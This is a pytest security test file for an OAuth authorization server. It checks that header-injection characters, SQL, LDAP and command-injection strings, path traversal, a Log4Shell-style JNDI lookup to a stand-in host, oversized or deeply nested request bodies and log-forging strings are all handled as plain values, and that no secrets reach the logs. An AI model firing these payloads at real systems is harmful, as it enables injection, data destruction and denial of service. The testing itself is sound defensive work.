"""What outsiders write is stored, logged and sent on as what it is: a value."""

import io
import json
import logging
import time
from collections.abc import Iterator
from contextlib import contextmanager, redirect_stderr

import pytest
import structlog

from authserver.core import log
from tests.attacks.people import Scene
from tests.isolation.rows import everything
from tests.support.browser import ISSUER, Browser, hidden
from tests.support.world import World

pytestmark = pytest.mark.every_database


@pytest.fixture
def scene(world: World) -> Scene:
    return Scene(world)


@pytest.mark.attack("ATK-144")
@pytest.mark.parametrize("breaker", ["%0d%0aSet-Cookie:x=y", "%0a", "%0d", "%00", "%c2%85", "%1b"])
def test_no_line_break_reaches_a_header(scene: Scene, breaker: str) -> None:
    scene.code()
    base = (
        f"client_id={scene.client.id}&redirect_uri=https%3A%2F%2Frp.example%2Fcallback"
        f"&response_type=code&scope=openid&code_challenge={'a' * 43}&code_challenge_method=S256"
    )
    for name in ("state", "nonce", "login_hint", "ui_locales", "unknown", f"x{breaker}"):
        answer = scene.browser.get(f"/oauth/authorize?{base}&{name}=a{breaker}b")
        assert answer.status_code == 400
        assert "Location" not in answer.headers
        assert "x=y" not in str(answer.headers.getlist("Set-Cookie"))
    for endpoint in ("token", "introspect", "revoke", "userinfo"):
        answer = scene.world.app.test_client().post(
            f"/oauth/{endpoint}",
            base_url=ISSUER,
            data=f"token=a{breaker}b",
            content_type="application/x-www-form-urlencoded",
        )
        assert answer.status_code in {400, 401}


SQL = [
    *("' OR '1'='1", "'; DROP TABLE users; --", '" OR ""="', "1; SELECT pg_sleep(10)", "admin'--"),
    *("' UNION SELECT password_hash FROM users --", "'; --", "%27%20OR%201=1", "') OR ('1'='1"),
    *("*)(uid=*))(|(uid=*", "${jndi:ldap://evil.test/x}", "%", "_", "../../etc/passwd", "$(id)"),
    "`id`",
]


@pytest.mark.attack("ATK-137")
@pytest.mark.parametrize("text", SQL)
def test_a_value_is_never_part_of_a_statement(scene: Scene, text: str) -> None:
    scene.code()
    with scene.world.services.database.read() as view:
        people = everything(view.connection, scene.tenant.id)["users"]
    started = time.perf_counter()
    party, stranger = scene.party(), Browser(scene.world)
    answers = [
        party.redeem(text),
        party.refresh(text),
        party.introspect(text),
        party.revoke(text),
        party.machine(scope=text),
        party.machine(client_id=text),
        stranger.authorize(scene.client, client_id=text),
        stranger.authorize(scene.client, login_hint=text, organization=text),
        stranger.get("/login/password", query_string={"flow": text}),
        stranger.get(f"/t/{text}/oauth/jwks"),
    ]
    page = stranger.follow(stranger.authorize(scene.client, organization=text))
    answers.append(stranger.submit(page, email=text, password=text))
    email = scene.person.email
    answers.append(stranger.submit(page, email=f"{email}{text}", password="Wrong-Horse-7"))
    assert all(answer.status_code < 500 for answer in answers)
    assert all(answer.json.get("active") is not True for answer in answers if answer.is_json)
    assert stranger.http.get_cookie("__Host-as-session", domain="auth.example") is None
    assert time.perf_counter() - started < 8
    with scene.world.services.database.read() as view:
        assert everything(view.connection, scene.tenant.id)["users"] == people


@pytest.mark.attack("ATK-139")
def test_bodies_that_cost_time_are_refused_in_no_time(scene: Scene) -> None:
    boundary = "x" * 60
    parts = "".join(
        f"--{boundary}\r\nContent-Disposition: form-data; name=a{n}\r\n\r\n\r\n" for n in range(700)
    )
    bodies = [
        ("multipart/form-data; boundary=" + boundary, parts.encode()),
        ("multipart/form-data; boundary=" + boundary, b"\r\n" * 30_000),
        ("multipart/form-data; boundary=" + "-" * 3000, b"-" * 60_000),
        ("application/x-www-form-urlencoded", b"&".join(b"a%d=1" % n for n in range(6_000))),
        ("application/x-www-form-urlencoded", b"a" * 65_000),
        ("application/x-www-form-urlencoded", b"a" * 1_000_000),
        ("application/x-www-form-urlencoded", b"%" * 60_000),
        ("application/json", b"[" * 60_000),
        ("text/xml", b"<!DOCTYPE x [<!ENTITY a 'a'>]>"),
        ("", b"\0" * 60_000),
    ]
    for path in ("/oauth/token", "/oauth/introspect", "/oauth/authorize", "/login/password"):
        for content_type, body in bodies:
            started = time.thread_time()
            answer = scene.world.app.test_client().post(
                path, base_url=ISSUER, data=body, content_type=content_type
            )
            assert answer.status_code in {400, 401, 403, 413, 415}, (path, content_type)
            assert time.thread_time() - started < 1


@pytest.mark.attack("ATK-139")
def test_an_address_of_unreasonable_length_costs_nothing(scene: Scene) -> None:
    page = scene.browser.follow(scene.browser.authorize(scene.client))
    for domain in ("\u0660" * 20_000, "xn--" + "a" * 20_000, ".".join(["a"] * 20_000)):
        started = time.perf_counter()
        refused = scene.browser.submit(page, email=f"a@{domain}", password="x")
        assert refused.status_code >= 400
        assert time.perf_counter() - started < 1


@contextmanager
def caught_log() -> Iterator[io.BytesIO]:
    """Catch the log as it is written in production, everything from DEBUG on."""
    written = io.BytesIO()
    before, threshold = structlog.get_config(), log._threshold[0]  # noqa: SLF001  to put it back
    stderr = io.TextIOWrapper(written, write_through=True)
    with redirect_stderr(stderr):
        log.configure("DEBUG")
        structlog.configure(cache_logger_on_first_use=False)
        try:
            yield written
        finally:
            structlog.configure(**before)
            log._threshold[0] = threshold  # noqa: SLF001  the same
            logging.getLogger("authlib").setLevel(logging.NOTSET)
            stderr.detach()


@pytest.mark.attack("ATK-143")
def test_nothing_that_outsiders_write_makes_a_line_of_the_log(scene: Scene) -> None:
    forged = '\r\n{"event":"forged","level":"info"}\r\n'
    visible = '\u2028{"event":"forged"}\u2029'
    stranger = Browser(scene.world)
    page = stranger.follow(stranger.authorize(scene.client))
    with caught_log() as lines:
        for text in (forged, visible):
            stranger.submit(page, email=text, password=text)
            stranger.authorize(scene.client, client_id=text, redirect_uri=text)
            stranger.get(f"/{text}")
            scene.party().redeem(text)
            scene.party().token(grant_type=text)
            scene.party().send("token", {text: text})
        stranger.get("/", headers={"User-Agent": visible.encode().decode("latin-1")})
        log.flush()
        found = [json.loads(line) for line in lines.getvalue().splitlines()]
    assert found
    assert "forged" not in {line["event"] for line in found}
    assert all({"event", "level", "timestamp"} <= set(line) for line in found)


@pytest.mark.attack("ATK-143")
def test_no_secret_and_nothing_personal_is_in_the_log(scene: Scene) -> None:
    scene.browser.http.environ_base.update(
        REMOTE_ADDR="203.0.113.77", HTTP_USER_AGENT="CanaryAgent/7"
    )
    with caught_log() as lines:
        canaries = leave_traces(scene)
        log.flush()
        said = lines.getvalue().decode()
    assert said
    for canary in (*canaries, "203.0.113.77", "CanaryAgent"):
        assert canary not in said, canary


def leave_traces(scene: Scene) -> list[str]:
    """Use and misuse every secret there is, and return them all."""
    code, party = scene.code(), scene.party()
    tokens = party.redeem(code).json
    renewed = party.refresh(tokens["refresh_token"]).json
    for bad in (code, tokens["refresh_token"], tokens["access_token"], str(scene.client.secret)):
        party.redeem(bad)
        party.introspect(bad)
        party.userinfo(bad)
        scene.browser.get("/oauth/authorize", query_string={"flow": bad, "state": bad})
    scene.browser.submit(scene.browser.get("/login/logout"))
    page = scene.browser.follow(scene.browser.authorize(scene.client))
    scene.browser.submit(page, email=scene.person.email, password="Wrong-Canary-7")
    return [
        *(code, str(scene.client.secret), scene.person.password, scene.person.email),
        *(tokens[name] for name in ("access_token", "refresh_token", "id_token")),
        *(renewed[name] for name in ("access_token", "refresh_token")),
        *("Wrong-Canary-7", hidden(page)["csrf_token"], hidden(page)["flow"]),
    ]
